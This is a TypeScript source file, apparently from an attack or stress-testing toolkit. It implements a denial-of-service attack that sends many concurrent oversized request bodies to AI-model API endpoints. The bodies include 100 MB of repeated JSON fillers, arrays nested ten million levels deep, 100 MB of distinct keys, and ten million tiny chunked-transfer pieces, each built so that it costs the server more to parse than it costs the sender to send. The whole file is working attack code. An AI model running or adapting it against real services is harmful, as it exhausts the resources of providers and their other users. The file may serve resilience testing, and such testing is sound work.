import type { Attack, AttackTarget } from './attack.ts';
import { askWire, countStatuses, type WireRequest } from './attack-wire.ts';
import { writeTinyChunks } from './write-tiny-chunks.ts';

const answeredWithinMs = 30_000;
const contentBytes = 100_000_000;
const messageBytes = 31_000_000;
const chunkCount = 10_000_000;

/** What fills a list until the body has its size. */
const fillings: Readonly<Record<string, string>> = {
  objects: '{},',
  numbers: '1,',
  lists: '[],',
  messages: '{"role":"user","parts":[{"text":"a"}]},',
};

/** `size` bodies at once, each as large as its operation takes, that cost more to read than to send. */
export const sendHugeBodies: Attack = async (target, { size, kind }) => {
  const request = writeRequest(target, kind);
  const asking = Array.from({ length: size }, () =>
    askWire(target, request, { timeoutMs: answeredWithinMs }),
  );
  const answers = await Promise.all(asking);
  return countStatuses(answers);
};

function writeRequest(target: AttackTarget, kind: string): WireRequest {
  if (kind === 'objects in format B') return writeMessages(target);
  const { apiKey } = target;
  const headers = { 'x-goog-api-key': apiKey, 'content-type': 'application/json' };
  const path = '/v1beta/models/genfam-2.5-flash:generateContent';
  if (kind !== 'tiny chunks') return { path, headers, body: writeContentBody(kind) };
  return { path, headers: { ...headers, 'transfer-encoding': 'chunked' }, body: writeTinyChunks(chunkCount) };
}

function writeContentBody(kind: string): Buffer {
  if (kind === 'nested lists') return writeNesting(10_000_000);
  if (kind === 'keys') return wrap('{"contents":[{', writeKeys(contentBytes), '"":1}]}');
  return wrap('{"contents":[', repeat(fillings[kind]!, contentBytes), '{}]}');
}

function writeMessages({ apiKey }: AttackTarget): WireRequest {
  const before = '{"model":"chatfam-opus-4-8","max_tokens":10,"messages":[';
  return {
    path: '/v1/messages',
    headers: { 'x-api-key': apiKey, 'msg-version': '2023-06-01', 'content-type': 'application/json' },
    body: wrap(before, repeat(fillings.objects!, messageBytes), '{}]}'),
  };
}

function wrap(before: string, filling: Buffer, after: string): Buffer {
  return Buffer.concat([Buffer.from(before), filling, Buffer.from(after)]);
}

/** Whole repetitions only. */
function repeat(text: string, sizeBytes: number): Buffer {
  return Buffer.alloc(sizeBytes - (sizeBytes % text.length), text);
}

function writeNesting(depth: number): Buffer {
  return wrap('{"contents":', Buffer.alloc(depth, '['), `${']'.repeat(depth)}}`);
}

/** Members with names that differ. */
function writeKeys(sizeBytes: number): Buffer {
  const memberBytes = '"00000000":1,'.length;
  const count = Math.floor(sizeBytes / memberBytes);
  const members = Buffer.alloc(count * memberBytes);
  for (let index = 0; index < count; index++) {
    members.write(`"${String(index).padStart(8, '0')}":1,`, index * memberBytes, 'latin1');
  }
  return members;
}
